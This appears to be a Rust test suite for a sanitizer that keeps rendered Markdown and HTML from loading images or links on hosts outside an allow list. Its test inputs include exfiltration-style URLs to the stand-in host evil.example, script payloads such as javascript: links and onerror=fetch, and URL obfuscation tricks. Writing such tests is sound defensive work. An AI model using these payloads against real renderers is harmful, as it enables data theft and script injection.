use proptest::prelude::*;

use super::super::entry::Entry;
use super::*;

fn rules() -> Rendered {
    let rule = |entries: &[&str]| {
        let mut rule = Rule::new();
        rule.max_query = Some(64);
        for entry in entries {
            rule.allow(Entry::read(entry).unwrap());
        }
        rule
    };
    Rendered {
        images: rule(&["img.example"]),
        links: rule(&["shop.example", "www.shop.example"]),
    }
}

fn code(text: &str) -> &'static str {
    rules()
        .judge_text(text)
        .map_or_else(|denied| denied.code.as_str(), |()| "ok")
}

#[test]
fn what_leads_to_listed_hosts_or_nowhere_passes() {
    for text in [
        "",
        "plain text, 1 < 2 and a > b",
        "![p](https://img.example/p.png)",
        "![p](<https://img.example/p.png> \"a title\")",
        "[s](https://shop.example/a?b=c#d \"https://evil.example\")",
        "![p][i]\n\n[i]: https://img.example/p.png 'title'",
        "[s]\n\n[s]: <https://shop.example/>",
        "<https://shop.example/>",
        "see https://shop.example/a.",
        "see www.shop.example",
        "www.shop.example",
        "[top](#top) [help](/help) ![x](x.png)",
        "<img src=\"https://img.example/p.png\" alt='https://evil.example'>",
        "<img srcset=\"https://img.example/1.png 1x, https://img.example/2.png 2x\">",
        "<a href=\"https://shop.example/\">shop</a>",
        "<img src=\"https://img.example/a?x=1&amp;y=2\">",
        "<img src=\"https://img.example/a.png\" alt=\"Q&amp;A\">",
        "Q&amp;A <img src=https://img.example/a&#46;png> &copy; shop",
        "<img srcset=\"https://img.example/a?x=1&amp;y=2 1x\">",
        "[x](\u{fc}ber/uns)",
        "<div style=\"background:url('https://img.example/b.png')\">x</div>",
        "`![x](https://evil.example/x.png)`",
        "``<img src=https://evil.example/1.gif> ` ``",
        "```html\n<img src=https://evil.example/1.gif>\n```",
        "~~~\nhttps://evil.example\n~~~",
        "text\n\n    ![x](https://evil.example/x.png)\n",
        "- item\n\n      https://evil.example/\n",
        "> ```\n> ![x](https://evil.example/x.png)\n> ```",
        "![unclosed](https",
        "[not a link] (see below)",
        "ann@evil.example and <ann@evil.example>",
        "evil.example is a name",
        "C:\\dir and a//b",
        "| a | b |\n|---|---|\n| `https://evil.example` | x |",
    ] {
        assert_eq!(code(text), "ok", "{text}");
    }
}

#[test]
fn what_some_client_would_fetch_or_follow_elsewhere_is_refused() {
    for text in [
        "![p](\u{200b}https://evil.example/x)",
        "![p](\u{a0}https://evil.example/x)",
        "![p](\u{2028}//evil.example/x)",
        "![p](ht\u{200b}tps://evil.example/x)",
        "![p](&#8203;https://evil.example/x)",
        "<img src=\"\u{feff}https://evil.example/x\">",
        "Q&amp;A <img src=https://img.example/a&amp;b> https&#58;//evil.example/",
        "![p](https://evil.example/p.png?q=secret)",
        "![p](<https://evil.example/p q.png>)",
        "![p](//evil.example/p.png)",
        "![p](HTTPS://EVIL.example/p.png)",
        "![p](https://shop.example/p.png)",
        "[s](https://img.example/)",
        "[![p](https://evil.example/p.png)](https://shop.example/)",
        "[![p](https://img.example/p.png)](https://evil.example/)",
        "![p][r]\n\n[r]: https://evil.example/p.png",
        "![r][]\n\n[R]:\n  https://evil.example/p.png\n  'title'",
        "![r]\n\n[r]: https://evil.example/p.png",
        "> ![r]\n>\n> [r]: https://evil.example/p.png",
        "[unused]: https://evil.example/p.png",
        "[^1]\n\n[^1]: https://evil.example/p.png",
        "<https://evil.example/>",
        "see https://evil.example/x",
        "see www.evil.example/x",
        "\\![x](https://evil.example/)",
        "[x](https&#58;//evil.example/)",
        "[x](https:&sol;&sol;evil.example)",
        "&#104;ttps://evil.example/ is decoded",
        "[x](javascript:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "![x](data:image/png;base64,AAAA)",
        "[x](https:evil.example)",
        "[x](https:/\\evil.example)",
        "[x](/\\evil.example)",
        "[x](www.evil.example)",
        "[x](https://shop.example@evil.example/)",
        "<img src=https://evil.example/1.gif>",
        "<IMG SRC='https://evil.example/1.gif'/>",
        "<img\nsrc\n=\nhttps://evil.example/1.gif\n>",
        "<img src=\"https&colon;//evil.example/1.gif\">",
        "<img src=\" https://evil.example/1.gif \">",
        "<img src=\"ht\ntps://evil.example/1.gif\">",
        "<img/src=https://evil.example/1.gif>",
        "<img srcset=\"https://img.example/1.png 1x, https://evil.example/2.png 2x\">",
        "<img srcset=\"https://img.example/1.png,https://evil.example/2.png 2x\">",
        "<picture><source srcset=https://evil.example/1.png></picture>",
        "<video poster=https://evil.example/1.png></video>",
        "<iframe src=https://evil.example/></iframe>",
        "<iframe srcdoc=\"&lt;img src=https://evil.example/&gt;\"></iframe>",
        "<object data=https://evil.example/></object>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<script src=https://img.example/x.js></script>",
        "<img src=https://img.example/x onerror=fetch(1)>",
        "<style>body{background:url(https://evil.example/x)}</style>",
        "<style>@import 'https://evil.example/x';</style>",
        "<p style=\"background:\\75rl(https://evil.example/x)\">x</p>",
        "<svg><image xlink:href=https://evil.example/x /></svg>",
        "<svg><rect fill=\"url(https://evil.example/x#y)\"/></svg>",
        "<body background=https://evil.example/x>",
        "<input type=image src=https://evil.example/x>",
        "<meta http-equiv=refresh content=\"0; URL='https://evil.example/'\">",
        "<base href=https://evil.example/>",
        "<form action=https://evil.example/><button formaction=https://evil.example/>",
        "<a href=https://evil.example/>x</a>",
        "<a href=https://shop.example/ ping=https://evil.example/>x</a>",
        "<code><img src=https://evil.example/1.gif></code>",
        "<pre>\n<img src=https://evil.example/1.gif>\n</pre>",
        "<!-- x --><img src=https://evil.example/1.gif>",
        "<!--><img src=https://evil.example/1.gif>-->",
        "<!-- ![x](https://evil.example/1.gif) -->",
        "<div>\n\n![x](https://evil.example/1.gif)\n\n</div>",
        "<img src=\n\nhttps://evil.example/1.gif>",
        "<img src=\"https://evil.example/1.gif?",
        "<a title=\"`\">![x](https://evil.example/1.gif)`",
        "<a title=\"\n\n<img src=https://evil.example/1.gif>\n\n\">",
        "` not code ![x](https://evil.example/1.gif)",
        "\\`![x](https://evil.example/1.gif)`",
        "| a | b |\n|---|---|\n| ` | ![x](https://evil.example/1.gif) ` |",
        "- a\n    ![x](https://evil.example/1.gif)",
        "text\n    ![x](https://evil.example/1.gif)",
    ] {
        assert_ne!(code(text), "ok", "{text}");
    }
}

#[test]
fn a_query_may_carry_only_so_much() {
    let text = |length: usize| format!("![p](https://img.example/p?{})", "q".repeat(length));
    assert_eq!(code(&text(64)), "ok");
    assert_eq!(code(&text(65)), "query_too_long");
    let link = format!("<a href='https://shop.example/?{}'>x</a>", "q".repeat(65));
    assert_eq!(code(&link), "query_too_long");
}

#[test]
fn hostless_schemes_pass_where_they_are_listed() {
    let mut rules = rules();
    let link = "[m](mailto:ann@shop.example)";
    assert!(rules.judge_text(link).is_err());
    rules.links.schemes.push("mailto".to_owned());
    rules.links.schemes.push("data".to_owned());
    assert!(rules.judge_text(link).is_ok());
    assert!(rules.judge_text("[x](data:text/html,x)").is_err());
}

#[test]
fn refused_places_are_neutralised_and_the_rest_stays() {
    for (text, expected) in [
        (
            "Hi [our shop](https://evil.example/x) and [b](https://shop.example/).",
            "Hi our shop (link withheld) and [b](https://shop.example/).",
        ),
        ("a ![x](https://evil.example/?d) b", "a (image withheld) b"),
        (
            "[![x](https://evil.example/1)](https://evil.example/2)!",
            "(image withheld)!",
        ),
        (
            "a <img src=https://evil.example/> b",
            "a (image withheld) b",
        ),
        ("see https://evil.example/x, ok", "see (link withheld), ok"),
        (
            "![r]\n\n[r]: https://evil.example/",
            "(image withheld)\n\n(link withheld)",
        ),
    ] {
        let refused = rules().refused(text);
        let edits = rules().edits(text, &refused);
        assert_eq!(applied(text, &edits).unwrap(), expected, "{text}");
    }
}

proptest! {
    #[test]
    fn neutralised_text_has_nothing_left(
        parts in proptest::collection::vec(
            prop_oneof![
                Just("![a](https://evil.example/)"), Just("[b](https://evil.example/x)"), Just("<img src=https://evil.example/>"),
                Just("`"), Just("```\n"), Just("\n"), Just("\n\n"), Just("    "), Just("<a href='"), Just("'>"), Just("["), Just("]"),
                Just("("), Just(")"), Just("!"), Just("https://evil.example"), Just("[r]: https://evil.example/\n"), Just("![r]"),
                Just("<!--"), Just("-->"), Just("| "), Just("\\"), Just("&#104;ttps://evil.example"), Just("\u{fc}"), Just("<style>"),
            ],
            0..14,
        )
    ) {
        let text = parts.concat();
        let refused = rules().refused(&text);
        let edits = rules().edits(&text, &refused);
        let after = applied(&text, &edits);
        prop_assert!(after.is_some());
        prop_assert_eq!(rules().refused(&after.unwrap()), []);
    }
}
